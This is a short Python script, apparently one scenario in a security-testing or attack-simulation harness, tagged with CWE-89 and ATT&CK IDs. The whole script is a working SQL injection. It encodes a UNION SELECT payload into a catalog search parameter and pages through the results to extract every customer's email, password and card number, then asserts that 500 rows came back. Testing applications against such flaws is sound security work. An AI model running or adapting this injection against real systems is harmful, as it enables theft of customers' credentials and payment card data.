#!/usr/bin/python3 -B
"""SQL injection that reads: all customers with their passwords and cards (CWE-89, T1213)."""

import json
from urllib.parse import quote

from attack import Attack


def run(attack: Attack) -> bool:
    words = ("zz' UNION SELECT id, mail || ' ' || password || ' ' || card, 0 FROM customers"
             " WHERE id > {} ORDER BY id LIMIT 20 --")
    rows, found = [], [{}]
    while found:
        said = attack.ask("GET", "/catalog/search?q=" + quote(words.format(len(rows))))[1]
        found = json.loads(said)["products"]
        rows += found
    return attack.prove(len(rows) == 500, rows=len(rows), first=rows[0]["name"])


Attack("T1190, T1213", ["edge", "catalog", "db"], ["customers"], entry="catalog").main(run)
